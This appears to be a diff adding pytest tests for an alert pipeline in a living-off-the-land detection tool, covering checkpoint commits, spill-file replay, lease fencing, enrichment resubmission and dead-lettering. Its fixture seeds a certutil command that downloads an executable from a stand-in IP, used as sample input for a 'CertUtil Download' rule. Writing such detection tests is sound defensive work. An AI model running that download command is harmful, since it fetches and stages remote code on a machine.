@@ -0,0 +1,118 @@
+"""Alerts and the consumer checkpoint are committed together, survive an outage via the spill file, and are fenced by shard leases."""
+import json
+import os
+
+import pytest
+from conftest import add_process
+
+from enrichment import EnrichmentQueue
+from sharding import LeaseLost
+
+CERTUTIL = r"C:\Windows\System32\certutil.exe"
+NOTEPAD = r"C:\Windows\System32\notepad.exe"
+
+
+def load_page(db):
+    add_process(db, "WS-0001", 300, 1, CERTUTIL, "certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe")
+    add_process(db, "WS-0002", 301, 1, NOTEPAD, "notepad notes.txt")
+
+
+def start(make_analyzer, db, **sink):
+    engine = make_analyzer(db)
+    for name, value in dict(retries=1, **sink).items():
+        setattr(engine.alerts, name, value)
+    engine.alerts.advance(0)
+    return engine
+
+
+def test_checkpoint_commits_with_alerts(memory_db, make_analyzer):
+    load_page(memory_db)
+    engine = start(make_analyzer, memory_db)
+    assert engine.process_events(engine.fetch_new_events(0)) == 2
+    assert len(memory_db.alerts) == 1
+    assert memory_db.checkpoints["test"] == 2
+
+
+def test_failed_checkpoint_rolls_back_and_spill_replays_once(memory_db, make_analyzer):
+    load_page(memory_db)
+    engine = start(make_analyzer, memory_db)
+    memory_db.fail_on = "INSERT INTO lotl_analyzer_checkpoint"
+    engine.process_events(engine.fetch_new_events(0))
+    # The alert INSERT ran, but the transaction failed at the checkpoint: nothing is visible
+    assert memory_db.alerts == {} and "test" not in memory_db.checkpoints
+    assert os.path.exists(engine.alerts.spill_path)
+
+    memory_db.fail_on = None
+    restarted = make_analyzer(memory_db)  # same spill file
+    last_id = restarted.load_checkpoint()
+    assert last_id == 2
+    assert len(memory_db.alerts) == 1 and memory_db.checkpoints["test"] == 2
+    assert not os.path.exists(restarted.alerts.spill_path)
+    assert restarted.fetch_new_events(last_id) == []  # nothing is analyzed (or alerted) twice
+
+    again = make_analyzer(memory_db)
+    assert again.load_checkpoint() == 2
+    assert len(memory_db.alerts) == 1
+
+
+def test_lease_fence_discards_batch(memory_db, make_analyzer):
+    load_page(memory_db)
+    memory_db.owners["test"] = "worker-b"
+    memory_db.checkpoints["test"] = 0
+    engine = start(make_analyzer, memory_db, owner="worker-a")
+    with pytest.raises(LeaseLost):
+        engine.process_events(engine.fetch_new_events(0))
+    assert memory_db.alerts == {}
+    assert memory_db.checkpoints["test"] == 0  # the new owner re-analyzes from here
+    assert not os.path.exists(engine.alerts.spill_path)
+
+
+def test_pending_alerts_are_resubmitted(memory_db, make_analyzer):
+    load_page(memory_db)
+    engine = start(make_analyzer, memory_db)
+    engine.enrichment = EnrichmentQueue(lambda cmd_line, rule_name: "ok", memory_db.connect)  # workers not started
+    engine.process_events(engine.fetch_new_events(0))
+    assert engine.enrichment.pending() == 1
+    alert_id, alert = next(iter(memory_db.alerts.items()))
+    assert alert[7] == "pending"
+
+    # Crash before enrichment finished: a new process finds the alert still pending
+    restarted = make_analyzer(memory_db)
+    restarted.enrichment = EnrichmentQueue(lambda cmd_line, rule_name: "ok", memory_db.connect)
+    assert restarted.resubmit_pending() == 1
+    queued_id, cmd_line, rule_name, details = restarted.enrichment._queue.get_nowait()
+    assert queued_id == alert_id and rule_name == "CertUtil Download"
+    assert cmd_line.startswith("certutil -urlcache") and "AI Analysis" not in cmd_line
+
+
+def test_rejected_row_is_dead_lettered_and_the_rest_commit(memory_db, tmp_path):
+    from alert_sink import AlertSink
+    sink = AlertSink(memory_db.connect, str(tmp_path / "spill.json"), "test", retries=1)
+    alert = dict(host_id=1, event_ref_id=1, rule_id=1, severity="high", description="certutil download",
+                 timestamp="2026-01-25 03:00:00", rule_set_version="v1", ai_status=None)
+    for rule_id in (1, 999, 1):  # 999: its rule was deleted, so the foreign key rejects the row
+        sink.add(dict(alert, rule_id=rule_id))
+    sink.advance(3)
+
+    written = sink.flush()
+    assert [alert["rule_id"] for _, alert in written] == [1, 1]
+    assert [alert_id for alert_id, _ in written] == sorted(memory_db.alerts)
+    assert memory_db.checkpoints["test"] == 3
+    assert not os.path.exists(sink.spill_path)  # nothing left to block the next flush
+    with open(sink.dead_letter_path) as f:
+        dead = [json.loads(line) for line in f]
+    assert [d["alert"]["rule_id"] for d in dead] == [999]
+    assert sink.stats["dead_lettered"] == 1 and sink.stats["written"] == 2
+
+
+def test_interleaved_autoinc_ids_come_from_each_insert(memory_db, tmp_path):
+    from alert_sink import AlertSink
+    memory_db.autoinc_lock_mode = 2  # another writer's rows land between ours
+    sink = AlertSink(memory_db.connect, str(tmp_path / "spill.json"), "test", retries=1)
+    for description in ("first", "second", "third"):
+        sink.add(dict(host_id=1, event_ref_id=1, rule_id=1, severity="high", description=description,
+                      timestamp="2026-01-25 03:00:00", rule_set_version="v1", ai_status=None))
+    written = sink.flush()
+    assert sink.consecutive_ids is False
+    assert [alert_id for alert_id, _ in written] == [2, 4, 6]  # not lastrowid + i
+    assert [memory_db.alerts[alert_id][4] for alert_id, _ in written] == ["first", "second", "third"]